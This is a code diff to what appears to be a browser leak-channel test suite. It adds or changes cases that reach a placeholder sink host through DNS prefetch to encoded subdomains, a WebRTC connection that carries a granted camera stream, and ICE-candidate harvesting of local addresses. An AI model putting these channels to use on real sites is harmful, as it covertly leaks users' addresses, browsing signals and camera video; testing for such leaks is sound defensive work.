@@ -20,7 +20,7 @@ export default [
   link("05.dns-prefetch.page", "dns-prefetch in the page", `<link rel="dns-prefetch" href="//SINK">`),
   link("05.dns-prefetch.on", "dns-prefetch switched on by the page", `<meta http-equiv="x-dns-prefetch-control" content="on"><link rel="dns-prefetch" href="//SINK">`),
   { id: "05.dns-prefetch.srcdoc", name: "dns-prefetch in srcdoc", js: `addFrame({ srcdoc: '<link rel=dns-prefetch href=//SINK>' }); await later(300); ran();` },
-  { id: "05.dns-prefetch.script", name: "dns-prefetch added by script", js: `document.head.insertAdjacentHTML("beforeend", '<link rel=dns-prefetch href=//SINK>'); ran();` },
+  { id: "05.dns-prefetch.script", name: "dns-prefetch added by script", js: `for (let i = 0; i < 5; i++) { document.head.insertAdjacentHTML("beforeend", '<link rel=dns-prefetch href=//n' + i + '.SINK>'); await later(150); } ran();` },
 
   link("06.preconnect.page", "preconnect in the page", `<link rel="preconnect" href="https://SINK">`),
   link("06.preconnect.cors", "preconnect with credentials mode", `<link rel="preconnect" href="https://SINK" crossorigin>`),
@@ -39,6 +39,12 @@ export default [
   rtc("webrtc.turns", "WebRTC, TURN over TLS", "const W = window;", `{ urls: "turns:SINK:5349?transport=tcp", username: "secret", credential: "x" }`),
   { id: "07.webrtc.data", name: "WebRTC from a data: frame", js: `addFrame({ src: "data:text/html," + encodeURIComponent(${JSON.stringify(inFrame(`{ urls: "stun:SINKIP:3478" }`)).replaceAll("</", "<\\/")}) }); ran(); await later(800); say({ alive: true });`, wait: 1500 },
   { id: "07.webrtc.srcdoc", name: "WebRTC from a srcdoc frame", js: `addFrame({ srcdoc: ${JSON.stringify(inFrame(`{ urls: "stun:SINKIP:3478" }`)).replaceAll("</", "<\\/")} }); ran(); await later(800); say({ alive: true });`, wait: 1500 },
+  { id: "07.webrtc.camera", name: "WebRTC with a picture of the camera, which was granted", asks: ["camera"], top: true, wait: 1500, js: `
+    const stream = await navigator.mediaDevices.getUserMedia({ video: true }).catch(() => null);
+    // Not granted yet: it is loaded anew.
+    if (stream === null) return;
+    try { const W = window; const pc = new W.RTCPeerConnection({ iceServers: [{ urls: "stun:SINKIP:3478" }] }); stream.getTracks().forEach((t) => pc.addTrack(t, stream)); pc.createOffer().then((o) => pc.setLocalDescription(o)).catch(() => {}); } catch (e) { void e; }
+    ran(); await later(800); say({ alive: true });` },
   { id: "07.webrtc.addresses", name: "this machine's addresses by WebRTC", stolen: true, strictOnly: true, js: `
     const seen = []; try { const pc = new RTCPeerConnection(); pc.onicecandidate = (e) => e.candidate && seen.push(e.candidate.candidate); pc.createDataChannel("x"); await pc.setLocalDescription(await pc.createOffer()); await later(1000); } catch (e) { void e; }
     stolen(seen.length > 0, seen.join(" | ").slice(0, 200));` },
